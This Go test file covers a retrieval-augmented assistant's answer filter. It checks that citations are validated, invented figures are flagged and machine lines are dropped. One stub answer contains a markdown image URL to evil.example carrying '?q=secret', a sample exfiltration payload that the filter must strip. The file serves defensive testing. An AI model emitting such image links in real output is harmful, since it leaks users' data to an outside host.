package app

import (
	"context"
	"fmt"
	"iter"
	"strings"
	"sync"
	"testing"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"mneme/memory"
	"mneme/memory/redistest"
	"mneme/subagent/loop"
	"mneme/subagent/rag"
	"mneme/subagent/rag/chunk"
	"mneme/subagent/rag/docstore"
)

// model searches for the task first, and then answers by a function of what it
// was shown.
type model func(shown string) string

func (m model) Generate(_ context.Context, r loop.Request) iter.Seq2[loop.Delta, error] {
	return func(yield func(loop.Delta, error) bool) {
		last := r.Messages[len(r.Messages)-1]
		if last.Role == memory.RoleTool {
			text := m(last.Content)
			_ = yield(loop.Delta{Text: text[:len(text)/2]}, nil) && yield(loop.Delta{Text: text[len(text)/2:]}, nil)
			return
		}
		c := memory.ToolCall{ID: "call-" + r.Conversation}
		c.Function.Name, c.Function.Arguments = "search_documents", fmt.Sprintf(`{"query":%q}`, last.Content)
		yield(loop.Delta{Calls: []memory.ToolCall{c}}, nil)
	}
}

// told keeps what a history would.
type told struct {
	shown   strings.Builder
	results []string
}

func (t *told) Text(text string) error              { t.shown.WriteString(text); return nil }
func (*told) Calls(string, []memory.ToolCall) error { return nil }
func (*told) Start(memory.ToolCall) error           { return nil }
func (t *told) Result(_ memory.ToolCall, s string, _ bool) error {
	t.results = append(t.results, s)
	return nil
}

func library(t *testing.T, texts map[string]string) *rag.Library {
	t.Helper()
	l := rag.NewLibrary(docstore.New(redistest.Start(t).Client(), 0), rag.Options{Log: zerolog.Nop()})
	c, err := docstore.Named(docstore.DefaultTenant, "docs")
	require.NoError(t, err)
	_, err = l.Create(t.Context(), c)
	require.NoError(t, err)
	for id, text := range texts {
		_, err = l.Put(t.Context(), c, rag.Input{ID: id, Document: chunk.Document{Text: text, Source: "https://example.com/" + id}})
		require.NoError(t, err)
	}
	return l
}

func ask(t *testing.T, d *desk, conversation, task string) (string, *told) {
	t.Helper()
	heard := &told{}
	l := loop.Loop{Model: d, Tools: []loop.Tool{d.tool()}, MaxSteps: 4, Conversation: conversation}
	r, err := l.Run(t.Context(), []memory.Message{{Role: memory.RoleUser, Content: task}}, heard)
	assert.NoError(t, err)
	assert.Equal(t, r.Text, heard.shown.String(), "what is shown is what counts")
	return r.Text, heard
}

func turn(t *testing.T, l *rag.Library) *rag.Turn {
	t.Helper()
	turn, err := l.NewTurn(rag.TurnOptions{Tenant: docstore.DefaultTenant, Collections: []string{"docs"}})
	require.NoError(t, err)
	return turn
}

// Whatever a model answers, nobody sees markers of nothing, images, foreign
// addresses or a line for the machine; invented figures are named.
func TestAnAnswerIsCheckedBeforeItIsShown(t *testing.T) {
	l := library(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns."})
	said := ""
	d := newDesk(turn(t, l), model(func(shown string) string {
		said = shown
		return "It costs 14 crowns [1][9]. Children pay 3 crowns [1]. ![x](https://evil.example/?q=secret) See https://example.com/ferry.\nstatus: partial\nmissing: the way back"
	}), zerolog.Nop())
	got, heard := ask(t, d, "c", "what does a ferry ticket cost")
	require.Contains(t, said, "A ferry ticket costs 14 crowns.")
	require.Contains(t, said, "nonce", "the model reads it in an envelope")
	require.Contains(t, got, "It costs 14 crowns [1].")
	require.Contains(t, got, "https://example.com/ferry", "the source of what is cited stays")
	require.Contains(t, got, "Not in the documents: the way back.")
	require.Contains(t, got, "please check: 3.")
	for _, no := range []string{"[9]", "evil", "status:", "nonce"} {
		require.NotContains(t, got, no)
	}
	require.Len(t, heard.results, 1)
	require.Contains(t, heard.results[0], "ferry#0")
	require.NotContains(t, heard.results[0], "nonce", "a history keeps what was quoted only")
}

// When nothing is found the model is not asked to make something up.
func TestNothingFoundIsNotImprovised(t *testing.T) {
	l := library(t, map[string]string{"ferry": "A ferry ticket costs 14 crowns."})
	d := newDesk(turn(t, l), model(func(string) string { return "Certainly: 99 crowns [1]." }), zerolog.Nop())
	got, _ := ask(t, d, "c", "zeppelin")
	require.NotContains(t, got, "99")
	require.NotEmpty(t, got)
}

// Isolated delegations of one run, at the same time, do not get into each other's
// way, and passages keep their numbers over all of them.
func TestDelegationsAtTheSameTime(t *testing.T) {
	texts := map[string]string{}
	for i := range 8 {
		texts[fmt.Sprintf("d%d", i)] = fmt.Sprintf("The word is token%d.", i)
	}
	d := newDesk(turn(t, library(t, texts)), model(func(shown string) string {
		at := strings.Index(shown, "The word is token")
		n := strings.Index(shown, `"n":`)
		return fmt.Sprintf("%s [%s].", shown[at:at+len("The word is token0")], shown[n+4:n+5])
	}), zerolog.Nop())
	var all sync.WaitGroup
	for i := range 8 {
		all.Go(func() {
			got, _ := ask(t, d, fmt.Sprintf("run.knowledge.%d", i), fmt.Sprintf("what about token%d", i))
			assert.Contains(t, got, fmt.Sprintf("token%d [", i))
			citations := d.turn.Cite(got)
			assert.Len(t, citations, 1)
			assert.Equal(t, fmt.Sprintf("d%d", i), citations[0].DocID)
		})
	}
	all.Wait()
}
